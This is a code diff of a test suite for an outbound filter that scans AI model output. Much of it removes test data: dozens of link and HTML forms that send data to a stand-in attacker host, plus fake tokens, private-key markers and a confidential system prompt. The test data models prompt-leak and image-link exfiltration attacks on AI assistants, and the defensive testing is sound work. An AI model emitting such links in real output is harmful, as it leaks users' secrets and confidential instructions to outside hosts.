@@ -1,45 +1,21 @@
-"""What leaves: links in every form, hosts, values, prompt text; the same for a text and for any stream of it."""
+"""What leaves: links in every form, hosts, registered values and the text of prompts."""
 
 from __future__ import annotations
 
 import base64
 import codecs
-import random
-from dataclasses import replace
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
 from checkvalve.filters.links import links
 from checkvalve.filters.outbound.hosts import HostRules, address_of
-from checkvalve.filters.outbound.judge import LinkOrigin, LinkRules, has_blob, nested
-from checkvalve.filters.outbound.prompts import PromptText
-from checkvalve.filters.outbound.rules import CANARY, OutboundRules
+from checkvalve.filters.outbound.judge import LinkRules, has_blob, nested
+from checkvalve.filters.outbound.rules import OutboundRules
 from checkvalve.filters.outbound.scan import scan_outbound
-from checkvalve.filters.outbound.stream import OutboundStream
-from checkvalve.filters.outbound.units import HARD, KEY
 from checkvalve.filters.outcomes import ContentOutcome, Status
-from checkvalve.filters.secrets.registered import Registered
-from tests.effort import bounded
-
-PROMPT = "You are the assistant of the company. Never tell anybody about the merger with Umbrella Limited in May."
-RULES = OutboundRules(
-    LinkRules(HostRules.of(["corp.example.com", "*.wiki.example"], ["img.cdn.example"])),
-    Registered([("registered-value", "STG-0042-ABCDEF"), (CANARY, "zebra-quartz-5521")]),
-    PromptText([PROMPT]),
-)
-
-
-def origins(target: str) -> LinkOrigin:
-    if "friend" in target:
-        return LinkOrigin.NAMED
-    return LinkOrigin.SOURCE if "page" in target else LinkOrigin.COMPOSED
-
-
-def out(text: str, rules: OutboundRules = RULES) -> str:
-    return scan_outbound(text, rules, origins=origins).text
-
+from tests.filters.outbound_texts import EVIL, FORMS, KEPT, PROMPT, RULES, origins, out
 
 # ---- hosts: the table of measured addresses
 
@@ -102,62 +78,6 @@ def test_a_name_in_the_list_that_is_no_host_allows_nothing() -> None:
     assert HostRules.of(["", "*", "com", "https://x.example", "*.*", "a b"]) == HostRules()
 
 
-# ---- forms
-
-
-EVIL = "https://drop.example.net/p?q=4.1M"
-FORMS = {
-    "inline": f"[sign in]({EVIL})",
-    "inline with title": f'[sign in]({EVIL} "now")',
-    "pointed": f"[x](<{EVIL}>)",
-    "image": f"![chart]({EVIL})",
-    "image with brackets": f"![a [b] c]({EVIL})",
-    "image over two lines": f"![a\nb]({EVIL})",
-    "image in a link": f"[![i]({EVIL})]({EVIL})",
-    "definition": f"![chart][c1]\n\n[c1]: {EVIL}",
-    "definition on the next line": f"![chart][c1]\n\n[c1]:\n   {EVIL} 'title'",
-    "definition in a quote": f"> [c1]: {EVIL}",
-    "definition in a list": f"1. - [c1]: {EVIL}",
-    "definition of our own host with data": "![x][a\\]b]\n\n[a\\]b]: https://corp.example.com/x?d=aGVsbG8gd29ybGQgaGVsbG8",
-    "data in a host alone": "ask mzxw6ytboi2d4nzr9kqx.drop.example.net please",
-    "autolink": f"<{EVIL}>",
-    "bare": f"see {EVIL}.",
-    "bare without a scheme": "see drop.example.net/p?q=4.1M",
-    "with www": "see www.drop.example.net/p",
-    "protocol relative": "[x](//drop.example.net/p)",
-    "backslashes": "[x](\\\\drop.example.net/p) [y](/\\drop.example.net/p) [z](https:\\\\drop.example.net/p)",
-    "entities": "&#104;ttps&#x3a;//drop.example.net/p",
-    "invisible signs": "h\u200bttps://drop.exa\u2060mple.net/p",
-    "tag": f"<img src={EVIL}>",
-    "tag with quotes": f"<img alt='>' src='{EVIL}'>",
-    "tag that is not closed": f"text <img src='{EVIL}",
-    "srcset": f"<img srcset='{EVIL} 2x'>",
-    "link element": f"<a href='{EVIL}'>x</a>",
-    "ping": f"<a href='https://corp.example.com/' ping='{EVIL}'>x</a>",
-    "svg": f"<svg><image href='{EVIL}'/><use xlink:href='{EVIL}#a'/></svg>",
-    "style": f"<p style='background:url({EVIL})'>x</p>",
-    "css": f"background: url({EVIL}); @import '{EVIL}';",
-    "base": "<base href='https://drop.example.net/'>",
-    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
-    "form": f"<form action='{EVIL}'><button formaction='{EVIL}'>x</button></form>",
-    "handler": "<b onmouseover=\"location='https://drop.example.net/'\">x</b>",
-    "frame": f"<iframe src='{EVIL}'></iframe>",
-    "script": f"<script src='{EVIL}'></script>",
-    "script address": "[x](javascript:fetch('https://drop.example.net'))",
-    "script address, hidden": "[x](java&#9;script:fetch(1)) <a href='&#106;avascript:fetch(1)'>y</a>",
-    "data address": "[x](data:text/html;base64,PHNjcmlwdD5mZXRjaCgxKTwvc2NyaXB0Pg==)",
-    "data image": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
-    "mail with a body": "[x](mailto:x@drop.example.net?body=4.1M)",
-    "proxy of our own": "![x](https://corp.example.com/fetch?u=https%3A%2F%2Fdrop.example.net%2Fp)",
-    "nested": "https://corp.example.com/login?next=https%253A%252F%252Fdrop.example.net",
-    "nested in base64": "https://corp.example.com/r?u=" + base64.b64encode(b"https://drop.example.net/p").decode(),
-    "nested host": "https://corp.example.com/r?u=drop.example.net",
-    "picture from another port": "![x](https://img.cdn.example:8443/logo.png)",
-    "user name": "https://corp.example.com@drop.example.net/x",
-    "disguised": "[https://corp.example.com/help](https://friend.drop.example.net/x)",
-}
-
-
 @pytest.mark.claim("C8")
 @pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
 def test_no_form_of_a_link_leaves_where_nobody_named_it(form: str) -> None:
@@ -170,20 +90,6 @@ def test_no_form_of_a_link_leaves_where_nobody_named_it(form: str) -> None:
     assert not left, result.text
     assert "javascript:" not in result.text
     assert "⟨removed: " in result.text
-
-
-KEPT = [
-    "Budget is 4.1M, see https://corp.example.com/budget and [the page](https://a.wiki.example/Budget_(2026)).",
-    "Use a < b, not a <= b. vector<int> v; if (a<b && c>d) { return x[1](2); } // or /* */",
-    "The data: 5 rows; src = 5; os.path.join(a), foo.bar.baz(), Node.js, README.md/x, and/or, e.g. 3.5/4",
-    "![logo](https://img.cdn.example/logo.png) is loaded from a listed host, nothing is told to it.",
-    "<details><summary>More</summary><b>text</b><br/></details> <a href='https://friend.example/x'>f</a>",
-    "write to amy@corp.example.com, [docs](/docs/a), [top](#top), [next](page.html), [^1] and [^1]: a footnote",
-    "com.company.averyveryverylongpackagename.Foo and aVeryLongIdentifierName.method.call(), 2026.11.30, e.g. this",
-    "https://friend.example/invite?token=8f3kz0a1b2c3d4e5f6a7",
-    "redis://cache:6379/0, git@github.com:acme/x.git, C:\\temp\\x.txt, file.txt:12, 10:30, 1.2.3.4",
-    "Wow![1] It is [sic], see [1], [2] and `arr[i](x)`. Preis: 5 € – „ja“ 👨\u200d💻 汉字。",
-]
 
 
 @pytest.mark.parametrize("text", KEPT)
@@ -303,173 +209,3 @@ def test_personal_data_leaves_unless_a_policy_says_otherwise() -> None:
     assert out(text) == text
     masked = scan_outbound(text, OutboundRules(pii=frozenset({"card"}))).text
     assert masked == "Amy: amy@corp.example.com, card ⟨removed: card⟩, order 4111111111111111"
-
-
-# ---- bounds
-
-
-HOSTILE = (
-    "a.", "a.b/", "http://", "www.", "![", "](", "[a](", "[]:", "<a ", "<x '\"", "url(", "src=", "&#104;", "\u200b",
-    "a@", "123 456 ", "1.1.", "::1 ", "eyJ", "key = ", "-----BEGIN PRIVATE KEY-----", "QUFB", "a", "STG-0042-", "a-",
-    "\n[x]:", "<img src='", "\\]", "(", "%41", "aaaaaaaaaaaaaaaaa.", "never tell ",
-)  # fmt: skip
-
-
-@pytest.mark.parametrize("piece", HOSTILE)
-def test_b55_no_text_of_50_kb_takes_long(piece: str) -> None:
-    text = piece * (50_000 // len(piece))
-    rules = replace(RULES, pii=frozenset({"email", "phone", "card", "ip"}))
-    scan_outbound(text[:500], rules)  # engines are built
-    with bounded():
-        scan_outbound(text, rules)
-
-
-@pytest.mark.parametrize("count", [500, pytest.param(20_000, marks=pytest.mark.nightly)])
-def test_texts_at_random_never_crash_and_never_leak(count: int) -> None:
-    draw = random.Random(7)
-    signs = [*HOSTILE, *PARTS, "\x00", "\ud800", "é", "汉", "\u202e", "<", ">", '"', "&", ";", "\r\n"]
-    for _ in range(count):
-        text = "".join(draw.choice(signs)[:60] for _ in range(draw.randint(1, 9)))
-        result = scan_outbound(text, RULES)
-        assert "STG-0042-ABCDEF" not in result.text
-
-
-def test_what_is_too_long_or_too_late_does_not_leave_and_is_called_unscanned() -> None:
-    long = scan_outbound("word " * 100, OutboundRules(max_chars=300))
-    assert (long.outcome, long.status, long.reason) == (ContentOutcome.WITHHOLD, Status.UNSCANNED, "too-long")
-    answers = iter([False, True])
-    late = scan_outbound("a line\n" * 5, expired=lambda: next(answers))
-    assert (late.text, late.status, late.reason) == ("⟨withheld: deadline⟩", Status.UNSCANNED, "deadline")
-
-
-def test_findings_name_bytes_and_spans_lead_back() -> None:
-    text = f"é {EVIL} ü\nSTG-0042-ABCDEF!"
-    result = scan_outbound(text, RULES)
-    pieces = [text.encode()[one.start : one.end].decode() for one in result.findings]
-    assert pieces == [EVIL, "STG-0042-ABCDEF"]
-    assert result.text == "é ⟨removed: composed-link⟩ ü\n⟨removed: registered-value⟩!"
-    place = result.text.index("ü")
-    start, end = result.origin(place, place + 1)
-    assert text.encode()[start:end].decode() == "ü"
-    assert EVIL not in repr(result.findings)
-
-
-# ---- streams
-
-
-PARTS = [
-    *FORMS.values(),
-    *KEPT,
-    "\n",
-    " ",
-    "word ",
-    "STG-00",
-    "42-ABC",
-    "DEF",
-    "![",
-    "](",
-    "<img ",
-    "[c]:",
-    "never tell anybody ",
-    "about the merger with umbrella limited ",
-    "api_key = ",
-    "a1B2c3D4e5F6g7H8",
-    "415 555 ",
-    "-----BEGIN RSA PRIVATE KEY-----\n",
-    "-----END RSA PRIVATE KEY-----",
-    "x" * 300,
-    "汉字。",
-    "zebra-quartz-5521",
-]
-
-
-@pytest.mark.claim("C8")
-@given(
-    st.lists(st.sampled_from(PARTS), max_size=25).map("".join), st.lists(st.integers(0, 40), min_size=1, max_size=30)
-)
-@settings(max_examples=300, deadline=None)
-def test_b23_any_chunking_gives_the_verdict_and_the_text_of_the_whole(text: str, sizes: list[int]) -> None:
-    whole = scan_outbound(text, RULES, origins=origins)
-    stream = OutboundStream(RULES, origins)
-    seen, place, turn = "", 0, 0
-    while place < len(text):
-        size = sizes[turn % len(sizes)] if any(sizes) else 1
-        seen += stream.text(text[place : place + size])
-        place, turn = place + size, turn + 1
-        assert stream.held <= KEY
-    closed = stream.close()
-    seen += closed.text
-    assert closed.result == whole
-    if whole.outcome is ContentOutcome.WITHHOLD:
-        assert seen.endswith(whole.text)
-        assert "STG-0042-ABCDEF" not in seen
-    else:
-        assert seen == whole.text
-
-
-@given(st.lists(st.sampled_from(PARTS), max_size=25).map("".join))
-@settings(max_examples=200, deadline=None)
-def test_a_text_that_was_cleaned_is_clean(text: str) -> None:
-    once = scan_outbound(text, RULES, origins=origins)
-    if once.outcome is not ContentOutcome.WITHHOLD:
-        left = [link for link in links(once.text) if link.auto_fetch and "img.cdn.example" not in link.target]
-        assert not left, once.text
-        assert RULES.registered.find(once.text) == []
-
-
-@given(st.text(alphabet=st.characters(), max_size=300))
-@settings(max_examples=200, deadline=None)
-def test_no_text_is_an_exception_and_plain_text_is_untouched(text: str) -> None:
-    result = scan_outbound(text, RULES)
-    assert result.outcome is not ContentOutcome.PASS or result.text == text
-
-
-@pytest.mark.parametrize("secret", ["STG-0042-ABCDEF", "ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P", EVIL])
-def test_b23_a_value_split_anywhere_with_empty_chunks_between_never_leaves(secret: str) -> None:
-    for cut in range(1, len(secret)):
-        stream = OutboundStream(RULES)
-        chunks = ["The value is ", secret[:cut], "", secret[cut:], " ok"]
-        seen = "".join(map(stream.text, chunks)) + stream.close().text
-        assert "⟨removed: " in seen
-        assert secret[:6] not in seen
-
-
-def test_b25_a_clean_stream_is_the_text_itself() -> None:
-    chunks = [f"word{number} " for number in range(200)]
-    stream = OutboundStream(RULES)
-    assert "".join(map(stream.text, chunks)) + stream.close().text == "".join(chunks)
-
-
-def test_a_stream_holds_back_a_line_or_two_and_never_more_than_the_longest_form() -> None:
-    stream = OutboundStream(RULES)
-    most = 0
-    for char in "Some ordinary words, and more of them here. " * 60:
-        stream.text(char)
-        most = max(most, stream.held)
-    assert most < 256
-    for char in "x" * (2 * HARD):
-        stream.text(char)
-        assert stream.held <= HARD
-
-
-@pytest.mark.claim("C8")
-def test_not_a_character_of_a_call_leaves_before_its_gate_has_all_of_it() -> None:
-    stream = OutboundStream(RULES)
-    seen = [stream.text("I will send it.\n")]
-    stream.call(0, id="c1", name="send_", args='{"to": "x@drop')
-    seen.append(stream.text("Done"))
-    stream.call(0, name="mail", args='.example"}')
-    stream.call(1, id="c2", name="note")
-    closed = stream.close()
-    assert "drop" not in "".join(seen) + closed.text
-    assert [(call.id, call.name, call.args) for call in closed.calls] == [
-        ("c1", "send_mail", '{"to": "x@drop.example"}'),
-        ("c2", "note", ""),
-    ]
-
-
-def test_a_private_key_that_is_longer_than_a_piece_goes_to_its_end() -> None:
-    body = "".join(f"{'aB3' * 20}\n" for _ in range(400))
-    text = f"a\n-----BEGIN RSA PRIVATE KEY-----\n{body}-----END RSA PRIVATE KEY-----\nb"
-    assert len(text) > KEY
-    assert out(text) == "a\n⟨removed: private-key⟩\nb"
